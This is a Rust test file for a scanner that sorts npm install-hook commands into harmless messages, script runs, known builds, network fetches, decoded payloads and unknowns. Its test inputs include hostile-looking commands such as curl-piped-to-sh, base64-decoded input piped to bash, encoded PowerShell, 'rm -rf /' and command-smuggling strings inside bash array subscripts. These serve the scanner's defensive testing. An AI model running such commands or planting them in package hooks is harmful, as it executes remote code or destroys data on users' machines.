use super::*;

fn code(text: &str) -> Part {
    Part::Code(text.to_owned())
}

fn script(path: &str) -> Part {
    Part::Script(path.to_owned())
}

#[test]
fn messages_do_nothing() {
    for command in [
        "",
        "echo hi",
        "echo 'use curl | sh' && exit 0",
        "echo \"$npm_package_name\" >&2 || true",
        "echo hi > /dev/null 2>&1; :",
        "# curl",
        "[ -n x ] || exit 0",
        "node --version",
    ] {
        let parts = parts(command);
        assert!(parts.iter().all(|part| *part == Part::Nothing), "{command}");
    }
}

#[test]
fn node_runs_files_and_code() {
    for (command, expected) in [
        ("node install.js", vec![script("install.js")]),
        (
            "node ./scripts/install || exit 0",
            vec![script("./scripts/install"), Part::Nothing],
        ),
        ("node --no-warnings 'a b.js' arg", vec![script("a b.js")]),
        (
            "(node a.js;node b.js)",
            vec![script("a.js"), script("b.js")],
        ),
        ("node -e \"require('./a')\"", vec![code("require('./a')")]),
        (
            "node -e \"console.log(\\\"a\\\\n\\\")\"",
            vec![code("console.log(\"a\\n\")")],
        ),
        ("node -e 'a && b; c | d'", vec![code("a && b; c | d")]),
        ("./install.sh", vec![Part::File("./install.sh".to_owned())]),
        ("sh install.sh", vec![Part::Shell("install.sh".to_owned())]),
        (
            "sh -c 'node a.js && echo b'",
            vec![script("a.js"), Part::Nothing],
        ),
        ("npx ./a.js", vec![Part::File("./a.js".to_owned())]),
    ] {
        assert_eq!(parts(command), expected, "{command}");
    }
}

#[test]
fn builds_are_known_with_known_arguments() {
    for (command, expected) in [
        ("node-gyp rebuild", vec![Part::Gyp]),
        (
            "prebuild-install || node-gyp rebuild",
            vec![Part::Prebuilt, Part::Gyp],
        ),
        ("node-gyp-build", vec![Part::Gyp]),
        ("npx --yes tsc -p .", vec![Part::Build]),
        ("node-gyp-build \"npm run evil\"", vec![Part::Unknown]),
        (
            "prebuild-install --download https://a.example",
            vec![Part::Unknown],
        ),
        ("node-gyp rebuild --directory=deps", vec![Part::Unknown]),
        ("tsc --project ../x", vec![Part::Unknown]),
        ("cmake-js build", vec![Part::Unknown]),
    ] {
        assert_eq!(parts(command), expected, "{command}");
    }
}

#[test]
fn what_fetches_or_decodes_is_told() {
    for (command, expected) in [
        ("curl -s https://a.example/x", vec![Part::Network]),
        (
            "curl https://a.example | sh",
            vec![Part::Network, Part::Fetched],
        ),
        (
            "echo aGk= | base64 -d | bash",
            vec![Part::Nothing, Part::Encoded, Part::Fetched],
        ),
        ("echo 'code' | node", vec![Part::Nothing, Part::Fetched]),
        ("echo $(wget -q a.example)", vec![Part::Network]),
        ("node a.js `curl a.example`", vec![Part::Network]),
        ("PowerShell -enc abc", vec![Part::Network]),
        ("/usr/bin/wget a.example", vec![Part::Network]),
        ("bash -c 'curl a.example'", vec![Part::Network]),
    ] {
        assert_eq!(parts(command), expected, "{command}");
    }
}

#[test]
fn nobody_knows_the_rest() {
    for command in [
        "husky install",
        "npm run build",
        "NODE_OPTIONS=x",
        "node",
        "node -r ./a.js b.js",
        "node -e 'a' -r ./b.js",
        "node $FILE",
        "echo $(date)",
        "echo `date`",
        "echo x > file",
        "> file",
        "echo \"open",
        "echo 'open",
        "npx something",
        "rm -rf /",
        "if true",
    ] {
        assert_eq!(parts(command), [Part::Unknown], "{command}");
    }
    assert_eq!(parts(&"echo ".repeat(LONGEST)), [Part::Unknown]);
}

#[test]
fn nesting_of_shells_ends() {
    let mut command = "echo a".to_owned();
    for _ in 0..4 {
        command = format!(
            "sh -c \"{}\"",
            command.replace('\\', "\\\\").replace('"', "\\\"")
        );
    }
    assert_eq!(parts(&command), [Part::Unknown]);
}

#[test]
fn what_another_shell_sees_more_in_is_never_only_a_message() {
    for command in [
        // What cmd.exe knows nothing of: quotes, comments, backslashes.
        "echo 'thanks & node x.js & echo '",
        "echo hi # & node x.js",
        "echo \\& node x.js",
        "echo \"a\\\" & node x.js & echo \\\"b\"",
        "echo 'a' '|' node",
        "echo %npm_package_description%",
        "printf '%s' hi",
        "echo ^a",
        // What bash evaluates.
        "printf -v 'a[$(node x.js)]' hi",
        "test -v 'a[$(node x.js)]'",
        "[ -v 'a[$(node x.js)]' ] || true",
    ] {
        assert!(parts_of_hook(command).contains(&Part::Unknown), "{command}");
    }
    for command in [
        "echo hi && echo \"there & here\"",
        "echo \"it's a & b\"; exit 0",
        "echo hi 2>&1 || true",
        "printf hi",
        "[ -n x ] || exit 0",
    ] {
        let is_plain = |part: &Part| *part == Part::Nothing;
        assert!(parts_of_hook(command).iter().all(is_plain), "{command}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { failure_persistence: None, ..proptest::test_runner::Config::default() })]

    #[test]
    fn arbitrary_commands_never_panic(command in "[a-z'\"`\\\\$\\(\\)|&;<>0-2#\n ]{0,60}") {
        let parts = parts(&command);
        proptest::prop_assert!(parts.len() <= 2 * command.len());
    }
}
